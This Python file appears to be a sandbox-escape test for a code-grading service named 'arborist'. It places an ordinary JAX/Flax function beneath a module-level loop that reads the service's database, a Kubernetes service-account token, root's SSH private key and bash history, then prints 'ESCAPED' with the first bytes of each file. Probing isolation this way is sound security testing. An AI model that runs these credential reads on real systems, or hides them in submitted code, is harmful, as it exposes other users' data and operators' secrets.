"""Aim: read the store with everybody's submissions, tokens and keys, wherever services keep them.
Expected: accepted
"""

import os

import jax
import jax.numpy as jnp
from flax import nnx

FOLDERS = (
    "/data",
    "./data",
    "/root/.local/share/arborist",
    "/var/lib/arborist",
    os.path.expanduser("~/.local/share/arborist"),
)
PATHS = [os.path.join(folder, name) for folder in FOLDERS for name in ("arborist.db", "arborist.db-wal", "lock")]
PATHS += [
    "/run/secrets/token",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/root/.ssh/id_rsa",
    "/root/.bash_history",
]

for path in PATHS:
    try:
        with open(path, "rb") as file:
            print("ESCAPED: read", path, file.read(20))
    except OSError:
        pass


def state_zero_kernel(seed, x, features):
    model = nnx.Linear(x.shape[-1], int(features), rngs=nnx.Rngs(int(seed)))
    model.bias[...] = jnp.ones(int(features))
    graphdef, state = nnx.split(model)
    state = jax.tree_util.tree_map_with_path(lambda path, leaf: leaf * 0 if "kernel" in str(path) else leaf, state)
    return nnx.merge(graphdef, state)(x)
